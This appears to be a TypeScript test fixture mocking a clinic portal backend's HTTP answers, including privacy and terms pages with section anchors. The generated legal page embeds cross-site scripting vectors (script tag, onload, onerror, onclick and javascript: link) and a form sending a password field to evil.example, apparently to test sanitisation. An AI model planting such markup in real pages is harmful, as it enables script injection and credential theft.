/** An answer of the other back end: as little as HTTP allows, where the specification says “not shown”. */
export type Answer = { status?: number; type?: string; body?: string; headers?: Record<string, string> };

/** The anchors of the two texts, word for word (spec §2). */
export const anchors = {
  privacy: [
    'general',
    'responsable',
    'loivigueur',
    'renseignement',
    'metadonne',
    'donneApp',
    'communication',
    'partageRenseignement',
    'hub',
    'destructionDonne',
    'localisationDonne',
    'partiesPrenantes',
  ],
  terms: [
    'general',
    'acceptation',
    'consentementCollecte',
    'consentementComm',
    'protectionRenseignement',
    'motDePasse',
    'messagerie',
    'compteDelegue',
    'consentementPersonneConsernee',
    'utilisationCompteDelegue',
    'tierce',
    'majRenseignement',
    'rvEnLigne',
    'modifCondition',
    'contact',
  ],
} as const;

/**
 * A whole page, as an old system sends one: a script, a handler, a form, names instead of ids, links that stay and
 * links that leave.
 */
const legalPage = (
  names: readonly string[],
  lang: string | null,
): string => `<!DOCTYPE html><html><head><title>x</title>
  <script>window.hacked = 1</script><style>body { display: none }</style></head><body onload="window.hacked = 1">
  <p>Texte ${lang ?? 'sans langue'}</p><img src="x" onerror="window.hacked = 1"><form action="https://evil.example"><input name="password"></form>
  <ul>${names.map((name) => `<li><a href="#${name}" onclick="window.hacked = 1">vers ${name}</a></li>`).join('')}</ul>
  ${names.map((name, at) => `<h2>${at % 2 === 0 ? `<a name="${name}">` : `<a id="${name}">`}partie ${name}</a></h2>${'<p>mot</p>'.repeat(30)}`).join('')}
  <a href="javascript:window.hacked=1">piège</a></body></html>`;

const page = (status: number, heading: string): Answer => ({
  status,
  type: 'text/html; charset=utf-8',
  body: `<html><body><h1>${heading}</h1></body></html>`,
});

/** What a server says of an address that it does not know. */
export const unknownCalls = {
  '404': page(404, 'Not Found'),
  '405': { status: 405, type: 'application/json', body: '{"message":"Method Not Allowed"}' },
  '501': { status: 501 },
  'a page': page(200, 'Clinique du Lac'),
  nothing: { body: '' },
} as const satisfies Record<string, Answer>;

/** Section 7, with bodies as awkward as the specification allows. */
export const answers: Record<string, (query: URLSearchParams) => Answer> = {
  'POST login': () => ({ headers: { 'Set-Cookie': 'XSRF-TOKEN=jeton%2B1; Path=/' } }),
  'GET logout': () => page(200, 'Au revoir'),
  'POST mailbox/unread': () => ({ type: 'text/plain', body: '3' }),
  'GET login/privacy': (query) => ({
    type: 'text/html; charset=utf-8',
    body: legalPage(anchors.privacy, query.get('lang')),
  }),
  'GET login/terms': (query) => ({ type: 'text/html', body: legalPage(anchors.terms, query.get('lang')) }),
  'POST signup': () => ({ status: 201, type: 'application/json', body: 'OK' }),
  'POST recover': () => ({ type: 'text/plain', body: 'ok' }),
  'POST recover/user': () => ({
    type: 'text/plain',
    body: JSON.stringify({ id: 7, login: 'marie.tremblay', email: 'm@exemple.ca' }),
  }),
  'POST recover/modify': () => ({ type: 'application/json' }),
  'GET user/dependents': () => ({ type: 'application/json', body: '[]' }),
  'GET appointment/available': () => ({
    type: 'application/json',
    body: '{"clinics":[],"hashClinicProf":{},"hashProfName":{},"user":null}',
  }),
  'POST appointment/history': () => ({ type: 'application/json', body: '[]' }),
};
